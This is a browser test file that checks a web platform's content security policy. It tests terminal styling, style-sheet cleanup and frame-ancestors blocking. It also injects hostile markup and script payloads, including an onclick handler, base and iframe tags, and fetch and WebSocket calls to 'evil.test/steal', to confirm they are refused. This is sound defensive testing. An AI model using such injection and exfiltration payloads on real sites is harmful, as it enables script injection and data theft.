import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { labIdSchema } from '../../../orchestrator/contract/attempt.js';
import type { Person } from '../../platform/support/server.js';
import { type Site, startSite } from '../../programme/support/site.js';
import { soon } from '../../web/fixture/soon.js';
import { lookout } from './support/lookout.js';

/* The content security policy in a real browser: terminals look as they should under it, and markup brings nothing along. */

vi.setConfig({ testTimeout: 90_000, hookTimeout: 120_000 });
let site: Site;
let ada: Person;
let address: string;
let terminal: string;

beforeAll(async () => {
  site = await startSite();
  const { platform } = site;
  ada = await platform.person('ada');
  const { id } = await platform.attempts.open(ada.account.id, {
    lab: labIdSchema.parse('sympy-dev'),
    mode: 'practice',
  });
  platform.attempts.change(id, { state: 'running', clockStartedAt: platform.clock.ms });
  address = `${platform.url}/attempts/${id}`;
  terminal = `${id}/workstation/0`;
});
afterAll(() => site.close());

const output = (text: string) => {
  for (const viewer of site.platform.terminals.viewers.get(terminal) ?? []) viewer.data(Buffer.from(text));
};
const span = (page: Page, text: string) => page.locator('.xterm-rows span', { hasText: text }).first();
const styleOf = (page: Page, text: string, property: string) =>
  span(page, text).evaluate((element, name) => getComputedStyle(element).getPropertyValue(name), property);
const sheets = (page: Page) => page.evaluate(() => document.adoptedStyleSheets.length);

describe('a terminal', () => {
  test('has its colours, weights, widths and scroll bar, without a style in the markup', async () => {
    const { page, faults } = await lookout(site, ada);
    await page.goto(address);
    await soon(() => page.locator('.xterm-rows').textContent()).toContain('snapshot');
    output('\r\n\x1b[31mred\x1b[0m \x1b[1mbold\x1b[0m \x1b[3mslanted\x1b[0m \x1b[4mlined\x1b[0m\r\n');
    output('\x1b[38;2;255;140;0mtrue\x1b[0m \x1b[48;2;0;90;160mground\x1b[0m \x1b[38;5;200mindexed\x1b[0m 漢字\r\n');
    await soon(() => page.locator('.xterm-rows').textContent()).toContain('indexed');
    expect(await styleOf(page, 'true', 'color')).toBe('rgb(255, 140, 0)');
    expect(await styleOf(page, 'ground', 'background-color')).toBe('rgb(0, 90, 160)');
    expect(await styleOf(page, 'indexed', 'color')).toBe('rgb(255, 0, 215)');
    expect(await styleOf(page, 'bold', 'font-weight')).toBe('700');
    expect(await styleOf(page, 'slanted', 'font-style')).toBe('italic');
    expect(await styleOf(page, 'lined', 'text-decoration-line')).toBe('underline');
    // From the sheet of the theme, and that of the cells.
    expect(await styleOf(page, 'red', 'color')).toMatch(/^rgb\((1[5-9]\d|2\d\d), \d+, \d+\)$/);
    expect(await styleOf(page, 'red', 'display')).toBe('inline-block');
    expect(await styleOf(page, 'red', 'font-family')).toMatch(/mono/i);
    output(Array.from({ length: 200 }, (_, line) => `line ${line}\r\n`).join(''));
    const slider = page.locator('.xterm-scrollable-element > .scrollbar.vertical > .slider').first();
    await soon(() => slider.evaluate((element) => element.clientHeight)).toBeGreaterThan(5);
    const ground = await slider.evaluate((element) => getComputedStyle(element).backgroundColor);
    expect(ground).not.toBe('rgba(0, 0, 0, 0)');
    expect(await page.locator('style').count()).toBe(0);
    expect(await sheets(page)).toBeGreaterThanOrEqual(3);
    expect(faults).toEqual([]);
  });

  test('takes its style sheets along when it goes', async () => {
    const { page, faults } = await lookout(site, ada);
    await page.goto(address);
    await soon(() => page.locator('.xterm-rows').textContent()).toContain('snapshot');
    expect(await sheets(page)).toBeGreaterThanOrEqual(3);
    await page.evaluate(() => {
      history.pushState(null, '', '/labs');
      dispatchEvent(new PopStateEvent('popstate'));
    });
    await page.locator('main h1').waitFor();
    await soon(() => page.locator('.xterm').count()).toBe(0);
    expect(await sheets(page)).toBe(0);
    expect(faults).toEqual([]);
  });
});

describe('what got into a page as markup', () => {
  test('can neither run nor dress anything, nor load or send anything elsewhere', async () => {
    const { page, faults } = await lookout(site, ada);
    await page.goto(`${site.platform.url}/labs`);
    await page.locator('main h1').waitFor();
    const colour = () => page.locator('body').evaluate((body) => getComputedStyle(body).color);
    const before = await colour();
    const tries: Record<string, string> = {
      'style-src-elem': '<style>body { color: rgb(1, 2, 3) !important }</style>',
      'style-src-attr': '<p style="position:fixed;inset:0">x</p>',
      'script-src-attr': '<p id="click-me" onclick="ran()">x</p>',
      'img-src': '<img src="https://evil.test/x.png">',
      'frame-src': '<iframe src="https://evil.test/"></iframe>',
      'object-src': '<embed src="https://evil.test/x">',
      'media-src': '<video src="https://evil.test/x.mp4"></video>',
      'base-uri': '<base href="https://evil.test/">',
    };
    for (const [directive, markup] of Object.entries(tries)) {
      faults.length = 0;
      await page.evaluate((html) => {
        document.body.insertAdjacentHTML('beforeend', html);
        document.querySelector<HTMLElement>('#click-me')?.click();
      }, markup);
      await soon(() => faults.join()).toContain(directive);
      expect([directive, faults.filter((one) => one === 'a script ran')]).toEqual([directive, []]);
    }
    expect(await colour()).toBe(before);
    expect(
      await page
        .locator('p', { hasText: /^x$/ })
        .first()
        .evaluate((one) => getComputedStyle(one).position),
    ).toBe('static');
    // Scripts that a script would make of text, or fetch from elsewhere.
    const blocked = await page.evaluate(async () => {
      const refused: string[] = [];
      // A debugger's own call may evaluate: not so what comes after it.
      await new Promise((resolve) => setTimeout(resolve));
      try {
        // biome-ignore lint/security/noGlobalEval: that it is refused is what is tried.
        globalThis.eval('1');
      } catch {
        refused.push('eval');
      }
      await fetch('https://evil.test/steal').catch(() => refused.push('fetch'));
      await new Promise((resolve) => {
        const socket = new WebSocket('wss://evil.test/');
        socket.onerror = resolve;
      });
      refused.push('socket');
      return refused;
    });
    expect(blocked).toEqual(['eval', 'fetch', 'socket']);
  });

  test('cannot be shown within a page of another site', async () => {
    const foreign = createServer((_request, response) => {
      response.setHeader('content-type', 'text/html');
      response.end(`<iframe src="${site.platform.url}/sign-in"></iframe>`);
    });
    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
    try {
      const page = await site.browser.newPage();
      const said: string[] = [];
      page.on('console', (message) => said.push(message.text()));
      await page.goto(`http://127.0.0.1:${(foreign.address() as AddressInfo).port}/`);
      await soon(() => said.join()).toMatch(/frame-ancestors 'none'/);
      expect(await page.frames()[1]?.content()).not.toContain('id="root"');
      await page.close();
    } finally {
      await new Promise((resolve) => foreign.close(resolve));
    }
  });
});
